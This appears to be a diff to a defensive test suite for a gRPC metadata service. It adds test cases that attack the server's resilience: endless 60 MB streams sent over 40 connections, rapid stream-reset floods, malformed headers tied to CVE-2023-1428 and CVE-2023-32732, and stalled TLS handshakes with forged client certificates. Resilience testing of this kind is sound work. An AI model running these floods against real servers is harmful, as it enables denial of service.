@@ -3,12 +3,14 @@
 import contextlib
 import json
 import random
+import select
 import socket
 import struct
 import threading
 
 import attack_case
 import grpc
+from authority import Authority
 
 SERVICE = "/ml_metadata.MetadataStoreService/"
 MAINTENANCE = "/rekindle.v1.MaintenanceService/"
@@ -34,7 +36,7 @@ def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
@@ -56,6 +58,65 @@ def unary(channel, method=READ, request=b"", timeout=20):
     except grpc.RpcError as error:
         return error.code()
     return OK
+
+
+def received(connection):
+    """What has come, without waiting for more."""
+    with contextlib.suppress(OSError):
+        if select.select([connection], [], [], 0)[0]:
+            return connection.recv(1 << 20)
+    return b""
+
+
+class Sender:
+    """Sends a message as its server allows, and never ends it."""
+
+    def __init__(self, connection, path, size):
+        self.connection, self.left, self.sent = connection, b"", 0
+        self.initial = self.window = self.stream_window = 65535
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, call_headers(path)))
+        connection.settimeout(0.2)
+        self.send(b"\0" + struct.pack(">I", size))
+
+    def send(self, data):
+        try:
+            self.connection.sendall(frame(DATA, 0, 1, data))
+        except OSError:  # the server takes no more
+            self.window = -1 << 40
+        self.window -= len(data)
+        self.stream_window -= len(data)
+        self.sent += len(data)
+
+    def send_some(self):
+        self.look()
+        room = min(self.window, self.stream_window, 1 << 14)
+        if room > 0:
+            self.send(room * b"\0")
+
+    def look(self):
+        """Reads what the server has sent: windows, settings and pings."""
+        self.left += received(self.connection)
+        while len(self.left) >= 9:
+            size, (kind, flags), stream = int.from_bytes(self.left[:3], "big"), self.left[3:5], int.from_bytes(self.left[5:9], "big")
+            if len(self.left) < 9 + size:
+                return
+            self.take(kind, flags, stream, self.left[9:9 + size])
+            self.left = self.left[9 + size:]
+
+    def take(self, kind, flags, stream, payload):
+        with contextlib.suppress(OSError):
+            if kind == WINDOW_UPDATE and stream == 0:
+                self.window += int.from_bytes(payload, "big")
+            elif kind == WINDOW_UPDATE:
+                self.stream_window += int.from_bytes(payload, "big")
+            elif kind == PING and not flags:
+                self.connection.sendall(frame(PING, 1, 0, payload))
+            elif kind == SETTINGS and not flags:
+                for name, value in struct.iter_unpack(">HI", payload):
+                    if name == 4:  # the window that streams begin with
+                        self.stream_window += value - self.initial
+                        self.initial = value
+                self.connection.sendall(frame(SETTINGS, 1, 0))
 
 
 class GrpcAttackCase(attack_case.AttackCase):
@@ -185,17 +246,13 @@ class MessagesTest(GrpcAttackCase):
             self.assertEqual(unary(self.channel(server), SERVICE + "PutArtifacts", field(1, (100 << 20) * b"\0")), EXHAUSTED)
 
     def test_messages_that_do_not_end(self):
-        """Many connections that each announce 60 MB and send most of it."""
-        body = b"\0" + struct.pack(">I", 60 << 20)
+        """Many connections that each announce 60 MB and send a part of it."""
         with self.attacked() as server:
-            for _ in range(40):
-                connection = self.connect(server)
-                connection.settimeout(0.5)
-                with contextlib.suppress(OSError):
-                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(
-                        HEADERS, 4, 1, call_headers(SERVICE + "PutArtifacts")) + frame(DATA, 0, 1, body))
-                    for _ in range(8 << 20 >> 14):
-                        connection.sendall(frame(DATA, 0, 1, (1 << 14) * b"\0"))
+            senders = [Sender(self.connect(server), SERVICE + "PutArtifacts", 60 << 20) for _ in range(40)]
+            for _ in range(400):
+                for sender in senders:
+                    sender.send_some()
+            self.say("%d MB were sent" % (sum(sender.sent for sender in senders) >> 20))
 
     def test_compressed_messages(self):
         with self.attacked() as server:
@@ -260,8 +317,7 @@ class FramesTest(GrpcAttackCase):
         with contextlib.suppress(OSError):
             for part in parts:
                 connection.sendall(part)
-                with contextlib.suppress(BlockingIOError):
-                    connection.recv(1 << 20, socket.MSG_DONTWAIT)
+                received(connection)
 
     def test_calls_that_are_reset_at_once(self):
         def resets():
@@ -271,9 +327,12 @@ class FramesTest(GrpcAttackCase):
                     frame(HEADERS, 4, stream, call_headers(READ)) + frame(DATA, 1, stream, 5 * b"\0") +
                     frame(RESET, 0, stream, struct.pack(">I", 8)) for stream in range(first, first + 200, 2))
 
+        # gRPC has a thread for every call, also for one that is reset, until the connection is found out and cut.
+        self.tolerated = "Server Threadpool Exhausted"
         with self.attacked() as server:
             for _ in range(2):
                 self.flood(server, resets())
+            self.wait_until(lambda: unary(self.channel(server)) == OK)
 
     def test_floods_of_pings_and_settings(self):
         with self.attacked() as server:
@@ -287,6 +346,18 @@ class FramesTest(GrpcAttackCase):
             block = b"".join(header(b"x-%d" % i, 100 * b"y") for i in range(100))
             self.flood(server, [start] + 5000 * [frame(CONTINUATION, 0, 1, block)])
 
+    def test_headers_that_no_client_sends(self):
+        """Those of CVE-2023-1428 and CVE-2023-32732, and tables of any size."""
+        usual = {b":method": b"POST", b":scheme": b"http", b":path": READ.encode(), b"te": b"trailers",
+                 b"content-type": b"application/grpc"}
+        with self.attacked() as server:
+            for strange in ({b"te": b"x"}, {b":scheme": b"x"}, {b"grpclb_client_stats": b"x"}, {b"x-bin": b"!!!"},
+                            {b"grpc-timeout": b"99999999999999999H"}, {b"grpc-encoding": b"snappy"}, {b":method": b"PUT"}):
+                block = b"".join(header(*each) for each in {**usual, **strange}.items())
+                self.flood(server, [PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, block) + frame(DATA, 1, 1, 5 * b"\0")])
+            self.flood(server, [PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, b"\x3f\xff\xff\xff\x7f")])
+            self.assertEqual(unary(self.channel(server)), OK)
+
     def test_streams_that_watch_health(self):
         with self.attacked() as server:
             watches = []
@@ -295,6 +366,29 @@ class FramesTest(GrpcAttackCase):
                 watches += [channel.unary_stream("/grpc.health.v1.Health/Watch")(b"") for _ in range(90)]
             self.wait_until(lambda: sum(watch.done() for watch in watches) >= 1000)
             self.assertEqual(unary(self.channel(server), "/grpc.health.v1.Health/Check"), OK)
+
+
+class TlsTest(GrpcAttackCase):
+
+    def test_handshakes_that_do_not_end_and_wrong_certificates(self):
+        ours, theirs = Authority(self.dir, "ours"), Authority(self.dir, "theirs")
+        certificate, key = ours.sign("server")
+        shown, shown_key = ours.sign("client")
+
+        def trust(server):
+            server.curl_options = ["--cacert", ours.certificate, "--cert", shown, "--key", shown_key]
+
+        with self.attacked(tls={"CA": ours.certificate, "CERT": shown, "KEY": shown_key}, prepare=trust, tls_cert=certificate,
+                           tls_key=key, tls_client_ca=ours.certificate) as server:
+            hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # the beginning of one
+            for i in range(200):
+                connection = self.connect(server)
+                connection.sendall(hello if i % 2 else PREFACE + frame(SETTINGS, 0, 0))
+            forged, forged_key = theirs.sign("client")
+            for pair in ((None, None), (forged_key.read_bytes(), forged.read_bytes())):
+                credentials = grpc.ssl_channel_credentials(ours.certificate.read_bytes(), *pair)
+                channel = self.hold(grpc.secure_channel(server.grpc, credentials, [("grpc.use_local_subchannel_pool", 1)]))
+                self.assertEqual(unary(channel, timeout=5), grpc.StatusCode.UNAVAILABLE)
 
 
 if __name__ == "__main__":
